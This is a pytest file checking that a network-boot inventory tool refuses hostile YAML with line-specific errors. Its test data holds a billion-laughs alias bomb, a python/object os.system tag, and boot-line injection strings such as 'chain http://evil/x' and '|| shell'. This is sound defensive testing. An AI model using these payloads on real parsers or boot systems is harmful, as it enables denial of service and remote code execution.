"""Hostile inventory files: each ends in a field-and-line message, fast, never a traceback."""

from __future__ import annotations

import time
import tracemalloc
from pathlib import Path

import pytest
import yaml

from seedbed import limits
from seedbed.cli import main
from seedbed.inventory import InventoryError, load_inventory, parse_inventory
from seedbed.web import create_app
from support import inventory_data, write_inventory


def alias_bomb(depth: int) -> str:
    """The classic billion laughs: each level lists the previous one nine times (~5 KB)."""
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, depth + 1):
        lines.append(f"l{level}: &l{level} [" + ",".join([f"*l{level - 1}"] * 9) + "]")
    return "\n".join(lines) + "\n"


def inventory_text(**changes: object) -> str:
    return yaml.safe_dump(inventory_data(**changes), sort_keys=False)


HOSTILE: dict[str, tuple[bytes, str]] = {
    "alias bomb": (alias_bomb(9).encode(), "alias bomb"),
    "oversize": (inventory_text().encode() + b"#" * limits.INVENTORY_MAX_BYTES, "larger than"),
    "non-UTF-8": (inventory_text().encode() + b"\nnote: caf\xe9\n", "not UTF-8"),
    "python object": (inventory_text().encode() + b"\nx: !!python/object:os.system {}\n",
                      "python/object"),
    "deep nesting": (b"[" * 5000, "nest"),
    "5000-digit number": (inventory_text().encode() + b"\nx: " + b"9" * 5000 + b"\n", "cannot read"),
    "13th month": (inventory_text().encode() + b"\nx: !!timestamp 2020-13-01\n", "cannot read"),
    "complex key": (b"? [a, b]\n: 1\n", "unhashable key"),
    "not a mapping": (b"- a\n- b\n", "must be a YAML mapping"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_file_is_refused_with_a_message(name: str) -> None:
    text, expected = HOSTILE[name]
    with pytest.raises(InventoryError) as info:
        parse_inventory(text, source="hostile.yaml")
    assert expected in str(info.value), str(info.value)
    assert all(p.path for p in info.value.problems)


@pytest.mark.parametrize("name", [n for n in HOSTILE if n not in ("oversize", "not a mapping")])
def test_hostile_file_message_names_the_line(name: str) -> None:
    with pytest.raises(InventoryError) as info:
        parse_inventory(HOSTILE[name][0])
    assert any(p.line for p in info.value.problems), str(info.value)


@pytest.mark.parametrize("name", ["non-UTF-8", "python object", "5000-digit number", "13th month"])
def test_the_line_is_the_one_with_the_bad_value(name: str) -> None:
    text = HOSTILE[name][0]
    with pytest.raises(InventoryError) as info:
        parse_inventory(text)
    bad_line = text.rstrip(b"\n").count(b"\n") + 1  # each case appends its bad value last
    assert [p.line for p in info.value.problems] == [bad_line], str(info.value)


def test_alias_bomb_is_refused_fast_and_small() -> None:
    """Before: depth 7 took 6.8 s and 1.15 GB, depth 9 ran out of memory."""
    tracemalloc.start()
    started = time.process_time()
    try:
        with pytest.raises(InventoryError, match="alias bomb"):
            parse_inventory(alias_bomb(9))
        took = time.process_time() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    print(f"alias bomb depth 9: {took * 1000:.0f} ms CPU, peak {peak / 1e6:.1f} MB")
    assert took < 1.0 and peak < 100e6, (took, peak)


def test_oversize_file_is_not_parsed(tmp_path: Path) -> None:
    path = tmp_path / "big.yaml"
    path.write_bytes(b"nodes:\n" + b"  - {hostname: a}\n" * (8 * 1024 * 1024 // 18))  # 8 MiB
    started = time.process_time()
    with pytest.raises(InventoryError, match="larger than"):
        load_inventory(path)
    assert time.process_time() - started < 1.0


def test_aliases_within_the_limit_still_work() -> None:
    text = inventory_text().replace("disk:\n", "disk: &samsung\n", 1)
    text += "x-defaults: *samsung\n"
    with pytest.raises(InventoryError) as info:
        parse_inventory(text)
    # The alias itself is fine; only the unknown top-level key is reported.
    assert [p.path for p in info.value.problems] == ["x-defaults"]


def test_unquoted_mac_names_the_base_60_trap() -> None:
    data = inventory_data()
    text = yaml.safe_dump(data, sort_keys=False).replace("- 52:54:00:00:00:01", "- 52:54:00:12:34:56")
    text = text.replace("'52:54:00:00:00:01'", "52:54:00:12:34:56")
    with pytest.raises(InventoryError) as info:
        parse_inventory(text)
    [problem] = [p for p in info.value.problems if p.path == "nodes[0].macs[0]"]
    assert "base-60" in problem.message and '"52:54:00:12:34:56"' in problem.message
    assert problem.line is not None


@pytest.mark.parametrize("section,field,value", [
    ("profiles", "cmdline", "quiet && chain http://evil/x"),
    ("profiles", "cmdline", "quiet || shell"),
    ("profiles", "cmdline", "console=ttyS0; linux (http,evil)/k"),
    ("profiles", "cmdline", "a=${net0/ip}"),
    ("profiles", "cmdline", "a=`x`"),
    ("profiles", "cmdline", 'a="b c"'),
    ("profiles", "cmdline", "a=#b"),
    ("profiles", "kernel", "k/vmlinuz evil=1"),
    ("profiles", "initrd", "k/initrd || shell"),
    ("installer", "kernel", "ubuntu/vmlinuz autoinstall"),
    ("installer", "initrd", "ubuntu/initrd&&shell"),
    ("installer", "cmdline", "quiet|shell"),
])
def test_boot_line_metacharacters_are_refused(section: str, field: str, value: str) -> None:
    data = inventory_data(profiles={"p": {"kernel": "k/vmlinuz", "initrd": "k/initrd"}})
    target = data["profiles"]["p"] if section == "profiles" else data["installer"]
    target[field] = value
    with pytest.raises(InventoryError) as info:
        parse_inventory(yaml.safe_dump(data, sort_keys=False))
    where = "profiles.p" if section == "profiles" else "installer"
    assert any(p.path == f"{where}.{field}" and p.line for p in info.value.problems), info.value


@pytest.mark.parametrize("name", HOSTILE)
def test_cli_validate_prints_a_message_not_a_traceback(name: str, tmp_path: Path,
                                                       capsys: pytest.CaptureFixture) -> None:
    path = tmp_path / "hostile.yaml"
    path.write_bytes(HOSTILE[name][0])
    assert main(["validate", str(path)]) == 1
    err = capsys.readouterr().err
    assert HOSTILE[name][1] in err and "Traceback" not in err


@pytest.mark.parametrize("name", HOSTILE)
def test_service_reload_keeps_the_last_good_inventory(name: str, make_service,  # noqa: ANN001
                                                      caplog: pytest.LogCaptureFixture) -> None:
    service = make_service()
    client = create_app(service).test_client()
    path = service.settings.inventory_path
    path.write_bytes(HOSTILE[name][0])
    assert service.refresh() is False  # the inventory watcher's step, without its thread
    response = client.get("/healthz")
    assert response.status_code == 200 and response.json["nodes"] == 2
    assert "not reloaded" in caplog.text and HOSTILE[name][1] in caplog.text
    write_inventory(path, inventory_data(nodes=inventory_data()["nodes"][:1] + [
        {"hostname": "gpu03", "macs": ["52:54:00:00:00:03"], "ip": "10.20.0.23", "roles": ["worker"]},
        inventory_data()["nodes"][1]]))
    assert service.refresh() is True
    assert client.get("/healthz").json["nodes"] == 3  # a good edit is still picked up
